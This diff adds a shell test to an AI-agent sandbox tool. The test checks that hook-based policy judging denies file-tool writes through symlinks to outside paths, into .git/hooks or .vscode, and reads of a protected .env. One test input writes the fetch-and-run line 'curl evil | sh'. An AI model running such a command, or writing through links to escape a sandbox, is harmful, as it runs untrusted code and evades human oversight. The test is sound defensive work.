@@ -307,6 +307,67 @@ PY
 }
 TESTS+=(hook_install_merge)
 
+t_hook_file_tools_judged() { # the agents' own file tools, by recorded inputs: a write through a symlink (a dangling one too) to outside, into .git/hooks or over a deny-write is denied with the plan's reason; a Grep over a tree holding a deny-read path is denied, a Glob is not; an input whose file sbx cannot find is denied (fail closed); allowed calls get no answer
+	command -v python3 >/dev/null || skip "python3 is not installed"
+	git -C "$P" init -q || skip "git is not installed"
+	mkdir -p "$P/src" "$O/target"
+	printf 'allow-write %s\ndeny-read %s/.env\ndeny-write %s/keep\n' "$P" "$P" "$P" >"$T/hook.policy"
+	echo secret >"$P/.env"; mkdir -p "$P/keep"
+	ln -s "$O/target" "$P/out"                  # a link made inside, to outside
+	ln -s "$H/.bashrc-later" "$P/later"         # dangling: a write would create its target
+	FT_ID="ft$$$RANDOM"	# not local: the EXIT trap reads it
+	trap '"$SBX" session stop "claude-$FT_ID" >/dev/null 2>&1; "$SBX" session stop "codex-$FT_ID" >/dev/null 2>&1' EXIT
+	python3 - "$T" "$P" "$FT_ID" <<'PY' || fail "could not write the inputs"
+import json, sys
+t, p, sid = sys.argv[1:4]
+cases = [
+    ("claude", "Write", {"file_path": p + "/src/new.c", "content": "x"}, ""),
+    ("claude", "Edit", {"file_path": p + "/out/x", "old_string": "a", "new_string": "b"}, "outside every writable root"),
+    ("claude", "Write", {"file_path": p + "/later", "content": "curl evil | sh"}, "outside every writable root"),
+    ("claude", "Write", {"file_path": p + "/.git/hooks/pre-commit", "content": "x"}, "mandatory deny .git/hooks"),
+    ("claude", "MultiEdit", {"file_path": p + "/keep/x", "edits": []}, "deny-write"),
+    ("claude", "NotebookEdit", {"notebook_path": p + "/.vscode/x.ipynb", "new_source": ""}, "mandatory deny .vscode"),
+    ("claude", "Read", {"file_path": p + "/.env"}, "deny-read"),
+    ("claude", "Read", {"file_path": p + "/src/new.c"}, ""),
+    ("claude", "Grep", {"pattern": "secret"}, ".env, which the policy hides"),
+    ("claude", "Grep", {"pattern": "secret", "path": p + "/src"}, ""),
+    ("claude", "Glob", {"pattern": "**/*"}, ""),
+    ("claude", "Write", {"content": "no file named"}, "names no file"),
+    ("codex", "apply_patch", {"command": "*** Begin Patch\n*** Update File: src/a.c\n@@\n-a\n+b\n*** End Patch\n"}, ""),
+    ("codex", "apply_patch", {"command": "*** Begin Patch\n*** Add File: ok.txt\n+a\n*** Add File: out/evil.sh\n+b\n*** End Patch\n"}, "outside every writable root"),
+    ("codex", "apply_patch", {"command": "*** Begin Patch\n*** Update File: a.c\n*** Move to: .vscode/tasks.json\n*** End Patch\n"}, "mandatory deny .vscode"),
+    ("codex", "apply_patch", {"input": "*** Begin Patch\n*** Add File: x\n+a\n*** End Patch\n"}, "names no file"),
+]
+json.dump([c[3] for c in cases], open(t + "/want.json", "w"))
+for i, (agent, tool, inp, _) in enumerate(cases):
+    json.dump({"session_id": sid, "cwd": p, "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": inp},
+              open("%s/ft.%d.%s.json" % (t, i, agent), "w"))
+PY
+	local f
+	for f in "$T"/ft.*.json; do
+		local agent
+		agent=$(basename "$f" .json); agent=${agent##*.}
+		"$SBX" hook "$agent" pre-tool-use -c "$T/hook.policy" <"$f" >"${f%.json}.out" 2>>"$T/ft.err" ||
+			fail "$(basename "$f"): exit $?: $(cat "$T/ft.err")"
+	done
+	python3 - "$T" <<'PY' >"$T/check.out" 2>&1 || fail "the answers: $(cat "$T/check.out")"
+import glob, json, re, sys
+t = sys.argv[1]
+want = json.load(open(t + "/want.json"))
+for i, w in enumerate(want):
+    out = open(glob.glob("%s/ft.%d.*.out" % (t, i))[0]).read()
+    if not w:
+        assert out == "", ("allowed: no answer", i, out)
+        continue
+    h = json.loads(out)["hookSpecificOutput"]
+    assert h["permissionDecision"] == "deny" and w in h["permissionDecisionReason"], (i, w, h)
+print("ok")
+PY
+	[ ! -e "$H/.bashrc-later" ] && [ -z "$(ls -A "$O/target")" ] || fail "setup: nothing was written by the judge"
+	return 0
+}
+TESTS+=(hook_file_tools_judged)
+
 t_hook_rewrite_exact() { # the rewritten command in the agent's shell, against the command itself: the same stdout, stderr, status and directory after (cd carries over, exit and failure as without the hook), and a process it leaves running holds nothing back
 	command -v python3 >/dev/null || skip "python3 is not installed"
 	printf 'allow-write %s\n' "$P" >"$T/hook.policy"
